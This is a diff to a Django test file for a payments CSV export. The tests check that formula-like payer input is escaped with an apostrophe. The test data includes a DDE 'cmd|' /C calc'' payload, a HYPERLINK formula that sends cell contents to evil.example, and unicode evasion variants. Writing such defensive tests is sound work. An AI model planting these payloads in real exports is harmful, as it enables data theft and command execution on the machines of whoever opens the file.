@@ -152,7 +152,6 @@ def test_asgi_server_gets_a_stream() -> None:
         (date(2026, 1, 2), "2026-01-02"),
         (NOON, "2026-11-25 12:00:00"),
         (NOON.replace(microsecond=999_999), "2026-11-25 12:00:00"),
-        (datetime(2026, 11, 25, 7, 8, 9), "2026-11-25 07:08:09"),  # noqa: DTZ001  of a site without time zones
         (Channel.ORANGE_CI, "OMCIV2"),
         (Channel.ORANGE_CI.label, "Orange Money Côte d’Ivoire"),
         (lazystr("=1+1"), "'=1+1"),
@@ -170,25 +169,16 @@ def test_numbers_are_not_quoted() -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        *("=1+1", "+1+1", "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)"),
-        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661", "\ufe621", "\ufe631", "\ufe6bSUM(1)"),
+        *("=1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)", "=", "\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1"),
+        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1", "\u00a0=1+1", " \t +A1", "+1e5", "-x"),
         '=HYPERLINK("https://evil.example/?" & A1, "Click")',
-        *(" =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1", "\x1f@SUM(1)", '"=1+1"', "'=1+1", " \t +1"),
-        *("\x00=1+1", "=", "+225 07 07 12 34 56", "\n=1+1", "\u2028=1+1"),
+        *("\tx", "\rx", "\nx", "\r\nx"),
     ],
 )
 @pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
-def test_formula_is_inert(text: str, language: str, delimiter: str) -> None:
+def test_formula_is_guarded(text: str, language: str, delimiter: str) -> None:
     with translation.override(language):
-        cell = written(text, delimiter)
-
-    assert cell.startswith("'")
-    assert cell.removeprefix("'").strip() == text.strip("\x00\x01\x1f\u2028\n ").strip().replace(" \t ", " ")
-
-
-@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "\r\nx", "\t"])
-def test_text_that_begins_with_a_tab_or_a_line_break_is_inert(text: str) -> None:
-    assert written(text) == "' " + text.strip()
+        assert written(text, delimiter) == f"'{text}"
 
 
 @pytest.mark.parametrize(
@@ -196,12 +186,12 @@ def test_text_that_begins_with_a_tab_or_a_line_break_is_inert(text: str) -> None
     [
         ("Awa,=1+1,", "Awa,'=1+1,"),
         ("Awa; @SUM(1)", "Awa;' @SUM(1)"),
-        ('Awa,"=1+1",x;-1', "Awa,'\"=1+1\",x;'-1"),
+        ("=1;-1;+A1", "'=1;-1;'+A1"),
         (",,=1", ",,'=1"),
-        ("Awa,\n=1", "Awa,' =1"),
+        ("Awa,\n=1", "Awa,'\n=1"),
     ],
 )
-def test_formula_is_inert_where_excel_expects_the_other_separator(text: str, cell: str) -> None:
+def test_formula_is_guarded_if_the_spreadsheet_expects_the_other_separator(text: str, cell: str) -> None:
     with translation.override("fr"):
         assert written(text, ";") == cell
     assert written(text) == cell
@@ -210,50 +200,26 @@ def test_formula_is_inert_where_excel_expects_the_other_separator(text: str, cel
 @pytest.mark.parametrize(
     "text",
     [
-        *("07", "00", "0707123456", "07 07 12 34 56", "07\u202f07\u202f12", "07.07.12.34.56", "(07) 07-12", "77 123"),
-        *("9210824147867", "123456789012", "1234567890123456", "9" * 24),
-        *("12e45", "1E5", "1e+5", "12E-4", "1,5e3", ".5e3", "123456789012345678901e12", "7E00000000000000000000001"),
-        *("2026-11-25", "1/2", "1-2", "12:30", "3.4", "3,4", "5%", "(5)", "1 000"),
-        *("MAR1", "SEPT2", "1 mars", "25-Dec", "déc. 2026", "AOUT2026", "2 fév"),
-    ],
-)
-def test_text_that_excel_would_change_is_kept(text: str) -> None:
-    assert written(text) == f"'{text}"
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        *("Awa", "Koné-Traoré", "N’Guessan", "O'Neil", "Order 12", "Commande 0007", "PP-F324", "awa+shop@example.com"),
-        *("42", "0", "22507071234", "1f3e45", "12e45f", "e45", "12e", "Mars", "Marie", "Décembre", "a=b", "1+1=2?"),
-        *("; drop table", '"; drop table payment; "', "<script>alert(1)</script>", "a;b,c", 'say "no"', "…", "."),
-        *("٣ oranges", "日本", "👍🏽", "a’b “c”", "a\u00a0b"),
+        *("0707123456", "07 07 12 34 56", "+225 07 07 12 34 56", "(+225) 07-07", "+2250707123456", "-1", "+", "- "),
+        *("Commande 42; -5 %", "-12,50", "-12.50", "1, -2, +3", "2026-11-25", "-25/12/2026", "9210824147867", "12e45"),
+        *("Awa", "Koné-Traoré", "N’Guessan", "O'Neil", "Order 12", "PP-F324", "awa+shop@example.com", "MAR1", "5%"),
+        *("; drop table", "<script>alert(1)</script>", "a;b,c", 'say "no"', "…", "a=b", "1+1=2?", "'=1+1", '"=1+1"'),
+        *("٣ oranges", "日本", "👍🏽", "a’b “c”", "a\u00a0b", "one\ntwo", "one\ttwo", "x\r\ny", "\u2028x"),
     ],
 )
 @pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
-def test_other_text_is_as_it_was(text: str, language: str, delimiter: str) -> None:
+def test_other_text_is_unchanged(text: str, language: str, delimiter: str) -> None:
     with translation.override(language):
         assert written(text, delimiter) == text
 
 
-@pytest.mark.parametrize(
-    ("text", "cell"),
-    [
-        ("one\ntwo", "one two"),
-        ("one\r\n\r\ntwo\rthree", "one two three"),
-        ("one\u2028two\x85three\x0bfour", "one two three four"),
-        ("one\ttwo\x00", "one two "),
-        ("one\x00two\x1b[31m", "one two [31m"),
-        ("\ud83d alone", "? alone"),
-    ],
-)
-def test_cell_is_one_line_of_text(text: str, cell: str) -> None:
-    assert written(text) == cell
+def test_lone_surrogate_is_replaced() -> None:
+    assert written("\ud83d alone") == "? alone"
 
 
-# Texts that the patterns take long to refuse, if they go back and forth.
-@pytest.mark.parametrize("unit", [" ", "\t", "1", "1 ", "1e", "1.", ", ", ",=", "\u00a0", '"', "mar", "1mar", "é1"])
-def test_long_text_takes_no_longer_than_its_length(unit: str) -> None:
+# Texts for which a pattern that backtracks takes very long.
+@pytest.mark.parametrize("unit", [" ", "\t", "1", "-1", "-1 ", ", ", ",=", ",-1", ",-", "; ", "\u00a0", '"', "é1"])
+def test_time_grows_linearly_with_the_text(unit: str) -> None:
     began = time.process_time()
 
     assert written(unit * (80_000 // len(unit)) + "x").endswith("x")
@@ -263,7 +229,7 @@ def test_long_text_takes_no_longer_than_its_length(unit: str) -> None:
 # The payments.
 
 HEADERS = [
-    *("Reference", "Status", "Amount", "Currency", "Amount refunded", "Operator", "Merchant", "Gateway id"),
+    *("Reference", "Status", "Amount", "Currency", "Amount refunded", "Payment method", "Merchant", "Gateway id"),
     *("Order", "Description", "First name", "Last name", "E-mail", "Phone", "Created", "Page opened", "Settled"),
     *("Settled by", "Attempts", "To review", "Findings"),
 ]
@@ -296,8 +262,8 @@ def test_payment_is_a_row() -> None:
 
     assert headers == HEADERS
     assert row == [
-        *("A1", "Paid", "12500", "XOF", "500", "Orange Money Côte d’Ivoire", "PP-F324", "'9210824147867"),
-        *(f"Order {order.pk}", "Order 1", "Awa", "Koné", "awa@example.com", "'07 07 12 34 56"),
+        *("A1", "Paid", "12500", "XOF", "500", "Orange Money Côte d’Ivoire", "PP-F324", "9210824147867"),
+        *(f"Order {order.pk}", "Order 1", "Awa", "Koné", "awa@example.com", "07 07 12 34 56"),
         *("2026-11-25 13:00:00", "2026-11-25 13:01:00", "2026-11-26 01:00:00", "Staff", "2", "yes"),
         "Another amount: 1 instead of 12500; Paid twice; something: else",
     ]
@@ -310,7 +276,7 @@ def test_payment_that_has_not_begun_has_empty_cells() -> None:
     [row] = rows_of(export_payments(Payment.objects.all()))
 
     assert {header for header, cell in row.items() if cell == ""} == {
-        *("Operator", "Gateway id", "Order", "Page opened", "Settled", "Settled by", "Findings")
+        *("Payment method", "Gateway id", "Order", "Page opened", "Settled", "Settled by", "Findings")
     }
     assert row["To review"] == "no"
 
@@ -324,9 +290,9 @@ def test_payments_are_told_in_french() -> None:
     [row] = rows_of(response, ";")
 
     assert row["Statut"] == "Non payé"
-    assert row["Réglé par"] == "Notification de la passerelle"
+    assert row["Conclu par"] == "Notification de la passerelle"
     assert row["Montant"] == "12500"
-    assert row["Téléphone"] == "'07 07 12 34 56"
+    assert row["Téléphone"] == "07 07 12 34 56"
     assert row["À vérifier"] == "oui"
     assert "Payé deux fois\u00a0: 2" in row.values()
     assert "Orange Money Sénégal" in row.values()
@@ -338,14 +304,14 @@ def test_what_this_version_does_not_know_is_given_as_it_is() -> None:
 
     [row] = rows_of(export_payments(Payment.objects.all()))
 
-    assert (row["Status"], row["Settled by"], row["Operator"]) == ("frozen", "oracle", "NEWPAY")
+    assert (row["Status"], row["Settled by"], row["Payment method"]) == ("frozen", "oracle", "NEWPAY")
 
 
 @pytest.mark.django_db
 def test_payers_cannot_write_formulas() -> None:
     payment = make_payment(
         description='=HYPERLINK("https://evil.example/?x="&A1,"Receipt")',
-        customer_first_name="+1+1",
+        customer_first_name="+A1",
         customer_last_name='"; drop\n@SUM(1)',
         customer_email="@SUM(1+1)*cmd|' /C calc'!A0",
         gateway_channel="<script>",
@@ -357,11 +323,11 @@ def test_payers_cannot_write_formulas() -> None:
     [row] = rows_of(export_payments(Payment.objects.all()))
 
     assert row["Description"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Receipt")'
-    assert row["First name"] == "'+1+1"
-    assert row["Last name"] == '"; drop @SUM(1)'
+    assert row["First name"] == "'+A1"
+    assert row["Last name"] == '"; drop\n@SUM(1)'
     assert row["E-mail"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-    assert row["Operator"] == "<script>"
-    assert row["Gateway id"] == "'-1"
+    assert row["Payment method"] == "<script>"
+    assert row["Gateway id"] == "-1"
     assert row["Order"] == "'=2"
     assert row["Findings"] == "'=1; : =2"
 
@@ -463,7 +429,9 @@ def test_export_has_what_the_list_was_filtered_to(monkeypatch: pytest.MonkeyPatc
     period = Payment.objects.filter(created_at__gte=NOON, created_at__lt=NOON + timedelta(seconds=3))
 
     for queryset in (some, Payment.objects.filter(status="failed"), operator, Payment.objects.filter(pk__in=chosen)):
-        assert [row["Operator"] for row in rows_of(export_payments(queryset))] == ["Orange Money Côte d’Ivoire"] * 10
+        assert [row["Payment method"] for row in rows_of(export_payments(queryset))] == [
+            "Orange Money Côte d’Ivoire"
+        ] * 10
     assert len(rows_of(export_payments(period))) == period.count() == 20
 
 
